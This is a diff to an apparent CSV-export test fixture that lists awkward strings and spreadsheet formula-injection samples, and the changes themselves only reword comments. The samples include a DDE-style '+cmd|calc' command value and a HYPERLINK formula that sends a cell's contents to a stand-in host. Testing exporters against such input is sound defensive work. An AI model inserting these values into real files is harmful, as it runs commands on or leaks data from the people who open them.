@@ -76,7 +76,7 @@ export const home = {
   country: 'Other',
 };
 
-/** What people type, and worse. */
+/** Typical and hostile input. */
 export const NASTY = [
   'a "quoted" word, and a comma; and\ttab',
   'line one\nline two\r\nline three',
@@ -85,7 +85,7 @@ export const NASTY = [
   '<b>&amp;</b> ]]> _x0041_',
   ' leading and trailing ',
 ];
-/** Formulas as T18 lists them, each with what CSV makes of it. */
+/** Formulas of T18, each with its CSV. */
 export const FORMULAS = [
   '=1+1',
   '+cmd|calc',
@@ -101,7 +101,8 @@ export const FORMULAS = [
   '＠1',
   '=HYPERLINK("http://a.example?"&A1,"x")',
   '-1-1-1-1-1-1-1',
-  // Behind what nobody sees: mark of byte order, of direction, joiner, hyphen, selector, accent, filler.
+  // Formulas behind invisible characters: byte order mark, direction, joiner, hyphen, selector, accent,
+  // filler.
   ...['\uFEFF', '\u200B', '\u200F', '\u202E', '\u2066', '\u00AD', '\uFE0F', '\u{E0100}', '\u0301'].map(
     (one) => `${one}=1+1`,
   ),
@@ -109,7 +110,7 @@ export const FORMULAS = [
   '\u22121+1',
   '\uFE66A1',
   '\u207A1',
-  // Phone numbers that a spreadsheet would calculate, or take for a number.
+  // Phone numbers that a spreadsheet would compute, or read as a number.
   '+1-202-555-0143',
   '+49/30/1234567',
   '+491701234567',
